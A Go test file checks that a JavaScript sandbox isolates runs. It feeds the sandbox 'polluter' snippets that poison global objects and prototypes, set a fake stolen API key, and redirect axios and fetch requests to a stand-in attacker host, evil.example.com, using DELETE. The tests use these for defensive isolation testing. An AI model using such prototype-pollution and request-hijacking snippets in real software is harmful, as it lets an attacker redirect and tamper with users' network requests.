package jsbox

import (
	"context"
	"testing"

	"sccg/evaluate/sandbox"
)

// probes are ordinary completions, one per client kind the polluters aim at.
var probes = []struct {
	name, lang, code, fn string
}{
	{"axios", "typescript", canary, "getQuote"},
	{"fetch", "javascript", `
async function search(q, limit = 5) {
  const params = new URLSearchParams({ q, limit: String(limit) });
  const res = await fetch('https://search.example.com/v1/find?' + params.toString(), { method: 'POST', body: JSON.stringify({ q }), headers: { 'Content-Type': 'application/json' } });
  if (!res.ok) throw new Error('HTTP ' + res.status);
  const data = await res.json();
  return [1, 2].map((x) => x * 2);
}`, "search"},
	{"https", "javascript", `
const https = require('https');
function ping(host) {
  return new Promise((resolve, reject) => {
    https.get({ hostname: 'status.example.com', path: '/ping', headers: { 'User-Agent': 'x' } }, (res) => {
      let body = '';
      res.on('data', (c) => (body += c));
      res.on('end', () => resolve(JSON.parse(body)));
    }).on('error', reject);
  });
}`, "ping"},
}

func TestInterference(t *testing.T) {
	polluters := []struct{ name, code string }{
		{"globals", `globalThis.fetch = () => Promise.resolve({ ok: false }); globalThis.URLSearchParams = null; var leaked = 1; globalThis.require = null; globalThis.process.env.API_KEY = 'stolen';`},
		{"Object.prototype", `Object.prototype.url = 'https://evil.example.com'; Object.prototype.method = 'DELETE'; Object.prototype.params = { evil: 1 };`},
		{"Array.prototype", `Array.prototype.push = function () {}; Array.prototype.map = null; Array.prototype.join = () => 'evil';`},
		{"JSON", `JSON.stringify = () => '{"evil":1}'; JSON.parse = () => ({ evil: true });`},
		{"String and Function prototypes", `String.prototype.toUpperCase = () => 'DELETE'; Function.prototype.call = function () { return 'evil'; }; Function.prototype.apply = null;`},
		{"Promise", `Promise.prototype.then = function () { return this; }; Promise.resolve = () => new Promise(() => {});`},
		{"axios defaults and interceptors", `const axios = require('axios'); axios.defaults.baseURL = 'https://evil.example.com'; axios.defaults.headers.common['X-Evil'] = '1'; axios.interceptors.request.use((c) => { c.url = 'https://evil.example.com/x'; c.method = 'delete'; return c; }); axios.get = () => Promise.resolve({});`},
		{"fetch and Response", `Response.prototype.json = null; Headers.prototype.set = null; fetch.evil = true; Object.freeze(globalThis);`},
		{"https module", `const https = require('https'); https.get = () => null; https.request = null;`},
		{"timers left pending", `setInterval(() => fetch('https://evil.example.com/tick'), 1); setTimeout(() => { Object.prototype.url = 'x'; }, 10);`},
		{"require cache", `require.cache['axios'] = { get: () => null }; require('module');`},
	}
	r := newTestRunner(t, Options{Workers: 1})
	ctx := context.Background()
	alone := make([]sandbox.Result, len(probes))
	for i, p := range probes {
		res, err := r.RunDialect(ctx, dialectOf(p.lang), p.code, p.fn)
		if err != nil || res.Status != sandbox.StatusOK || len(res.Requests) != 1 {
			t.Fatalf("probe %s alone: %v %s %s %v", p.name, err, res.Status, res.Reason, res.Requests)
		}
		alone[i] = res
	}
	for _, pol := range polluters {
		t.Run(pol.name, func(t *testing.T) {
			for i, p := range probes {
				if _, err := r.Run(ctx, pol.code, ""); err != nil {
					t.Fatal(err)
				}
				got, err := r.RunDialect(ctx, dialectOf(p.lang), p.code, p.fn)
				if err != nil {
					t.Fatal(err)
				}
				if !sameScore(got, alone[i]) {
					t.Errorf("probe %s after it: %s (%s) %+v; alone: %s %+v", p.name, got.Status, got.Reason, got.Requests, alone[i].Status, alone[i].Requests)
				}
			}
		})
	}
	if n := r.Replaced(); n != 0 {
		t.Errorf("%d workers replaced: no polluter should end its worker", n)
	}
}

// TestPollutersBite shows the interference suite can fail: a polluter run in the
// same runtime as a probe does change its score.
func TestPollutersBite(t *testing.T) {
	for _, tc := range []struct{ name, polluter string }{
		{"axios defaults", `const ax = require('axios'); ax.interceptors.request.use((c) => { c.url = 'https://evil.example.com/x'; return c; });`},
		{"Object.prototype", `Object.prototype.params = { evil: 1 };`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			alone := inProcess(t, "typescript", canary, "getQuote")
			both := inProcess(t, "typescript", tc.polluter+"\n"+canary, "getQuote")
			if sameScore(alone, both) {
				t.Errorf("polluter had no effect in its own runtime: %+v", both.Requests)
			}
		})
	}
}
